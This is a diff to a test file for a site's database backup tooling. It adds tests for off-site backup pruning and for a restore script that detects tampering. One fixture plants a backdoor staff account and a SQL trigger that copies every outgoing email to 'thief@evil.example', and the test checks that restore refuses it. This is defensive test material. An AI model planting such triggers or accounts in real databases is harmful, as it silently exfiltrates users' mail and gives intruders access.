@@ -8,8 +8,8 @@ import SQLite from "better-sqlite3";
 import S3rver from "s3rver";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 
-import { checkDatabaseFile, isBackupFile } from "~/platform/backups.server";
-import { downloadOffsite, latestOffsiteKey, uploadBackup } from "~/platform/offsite.server";
+import { backupFileName, checkDatabaseFile, isBackupFile } from "~/platform/backups.server";
+import { downloadOffsite, latestOffsiteKey, pruneOffsite, uploadBackup } from "~/platform/offsite.server";
 
 import { openDatabase } from "../../db/connection";
 import { waitFor } from "../helpers/poll";
@@ -193,6 +193,27 @@ describe("off-site copies", () => {
     await downloadOffsite(settings, BUCKET, key, downloaded);
     expect(sha256(downloaded)).toBe(sha256(backup));
   }, 60_000);
+
+  it("take as latest, and prune, by the backups' own time, passing over keys that are not ours", async () => {
+    const { AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY, BACKUP_S3_ENDPOINT, AWS_REGION } = offsiteEnv("");
+    Object.assign(process.env, { AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY });
+    const settings = { url: `s3://${BUCKET}/planted`, endpoint: BACKUP_S3_ENDPOINT, region: AWS_REGION };
+    const folder = makeTempDir("planted-");
+    const daysAgo = (days: number) => backupFileName(new Date(Date.now() - days * 86_400_000));
+    // Stored newest last, so the order of storing can't stand in for the order of making.
+    const names = [daysAgo(1), daysAgo(3), "site-29991231-235959.db", "site-20260231-000000.db", "notes.db"];
+    for (const name of names) {
+      fs.writeFileSync(path.join(folder, name), "a backup");
+      await uploadBackup(settings, path.join(folder, name));
+    }
+    expect(await latestOffsiteKey(settings)).toBe(`planted/${daysAgo(1)}`);
+    expect(await pruneOffsite(settings, 1)).toBe(1);
+    expect(await bucketKeys("planted/")).toEqual(
+      ["notes.db", "site-20260231-000000.db", "site-29991231-235959.db", daysAgo(1)]
+        .map((name) => `planted/${name}`)
+        .sort(),
+    );
+  });
 });
 
 describe("restore", () => {
@@ -253,6 +274,36 @@ describe("restore", () => {
       /^Not restored: .+newer\.db comes from a newer version \(migration 9999-from-the-future\): upgrade first\n$/,
     );
   }, 90_000);
+
+  it("refuses a backup with a trigger the migrations never make, and names the staff accounts before swapping", async () => {
+    const server = await startServer({ env: adminEnv });
+    const backup = path.join(makeTempDir("backup-"), "copy.db");
+    expect((await runScript("scripts/db-backup.ts", [backup], { DATABASE_PATH: server.databasePath })).status).toBe(0);
+    await server.stop();
+    const planted = new SQLite(backup);
+    planted.prepare("insert into staff_users (email, password_hash) values ('intruder@evil.example', 'x')").run();
+    fs.copyFileSync(backup, `${backup}.accounts-only.db`);
+    planted.exec(`create trigger copy_emails_out after insert on outbox begin
+      insert into outbox (recipient, subject, text_body, html_body, next_attempt_at)
+      values ('thief@evil.example', new.subject, new.text_body, new.html_body, new.next_attempt_at);
+    end`);
+    planted.close();
+
+    const refused = await runScript("scripts/db-restore.ts", [backup], { DATABASE_PATH: server.databasePath });
+    expect(refused.status).toBe(1);
+    expect(refused.stderr).toMatch(
+      /^Not restored: .+copy\.db holds what this site's migrations never make \(trigger copy_emails_out\)/,
+    );
+    expect(fs.readdirSync(server.dataDir).filter((name) => name.includes("before-restore"))).toEqual([]);
+
+    const restored = await runScript("scripts/db-restore.ts", [`${backup}.accounts-only.db`], {
+      DATABASE_PATH: server.databasePath,
+    });
+    expect(restored.status, restored.stderr).toBe(0);
+    expect(restored.stdout).toMatch(
+      /Staff accounts in the backup \(2\):\n {2}owner@example\.com \(added .+\)\n {2}intruder@evil\.example \(added .+, last signed in never\)\nRestored /,
+    );
+  }, 120_000);
 
   it("refuses a file that is not a whole backup, and changes nothing", async () => {
     const dataDir = makeTempDir();
